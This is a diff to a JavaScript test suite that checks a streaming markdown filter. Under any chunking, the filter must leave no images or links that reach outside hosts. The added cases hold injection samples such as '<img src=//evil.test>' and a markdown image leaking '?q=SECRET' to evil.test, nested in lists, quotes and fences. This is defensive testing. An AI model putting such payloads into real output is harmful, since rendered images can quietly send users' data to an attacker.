@@ -111,6 +111,21 @@ test.each([
   'a\n2. b\n\n     ```\n     <img src=x>\n     ```\n',
   '- - -\n    ```\n<img src=x>\n',
   '> ```\n> a\n<img src=x>\n',
+  '- Step\n> **Note**\n> ```\n> ![x](https://evil.test/?q=SECRET)\n> ```\n',
+  '- a\n> ```\n> <img src=//evil.test>\n> ```\n',
+  '1. a\n2. b\n > ```\n > <img src=//evil.test>\n',
+  '10. a\n  > ```\n  > <img src=//evil.test>\n',
+  '- [ ] a\n> ~~~\n> ![x](//evil.test)\n~~~\n',
+  '> - a\n> > ```\n> > <img src=//evil.test>\n',
+  '$$\n<img src=//evil.test>\n</b><!--x--><?x?><!X>\n<https://evil.test>\n<a@evil.test>\n$$\n',
+  '- $$\n  <img src=//evil.test>\n\n<b>\n',
+  'b\n - ```\n   ![x](//evil.test)\n - ```\n- \n',
+  'b\n  - x\n    ```\n    ![x](//evil.test)\n---\n',
+  '- a\n    - b\n      ```\n      ![x](//evil.test)\n  ===\n',
+  '> b\n>  - ```\n>    ![x](//evil.test)\n> ---\n',
+  '- > a\n   >\n > ```\n > <img src=//evil.test>\n > ```\n  > \n',
+  '    - a\n\n2. a\n    - ```\n      ![x](//evil.test)\n    - ```\n',
+  '>     a\n>\n> 2. a\n>     - ```\n>       ![x](//evil.test)\n>     - ```\n',
 ])('4.9: nothing leads away, however it is cut: %j', (text) => {
   for (const sizes of [[text.length], [1], [2], [3], [7]]) {
     const said = filtered(text, sizes).join('')
@@ -164,5 +179,31 @@ test('4.9: whatever is written, and however it is cut, nothing that is said lead
       expect(filtered(said, [said.length]).join('')).toBe(said)
     }),
     { numRuns: 800 },
+  )
+})
+
+/** What lines of lists and quotes begin with. */
+const MARKS = ['- ', '1. ', '2. ', '10. ', '> ', '> ', '>', '> > ', '> - ', '- > ', '- [ ] ', '* ', '']
+
+test('4.9: what stands in fences of lists and quotes is code to all renderers, or leads nowhere', () => {
+  const indent = fc.constantFrom('', '', ' ', '  ', '   ', '    ')
+  const mark = fc.tuple(indent, fc.constantFrom(...MARKS)).map((parts) => parts.join(''))
+  const before = fc.tuple(mark, fc.constantFrom('a', 'a', '')).map((parts) => parts.join(''))
+  const start = fc.array(before, { minLength: 1, maxLength: 3 })
+  const fence = fc.constantFrom('```', '~~~', '```js')
+  const foreigner = fc.constantFrom('![x](//evil.test)', '<img src=//evil.test>')
+  const block = fc.tuple(mark, mark, fence, foreigner, fc.nat(3)).map(([own, other, sign, text, way]) => {
+    const [second, third] = [way & 1 ? own : other, way & 2 ? own : other]
+    return [own + sign, second.replace(/[-*\d.]/g, ' ') + text, third + sign.slice(0, 3)]
+  })
+  const end = fc.constantFrom('', '', 'a', '---', '===', '- ')
+  fc.assert(
+    fc.property(start, block, end, fc.integer({ min: 1, max: 9 }), (first, code, last, size) => {
+      const text = `${[...first, ...code].join('\n')}\n${last}\n`
+      const said = filtered(text, [size]).join('')
+      expect(foreign(said), said).toEqual([])
+      expect(said).toBe(filtered(text, [text.length]).join(''))
+    }),
+    { numRuns: 1_000 },
   )
 })
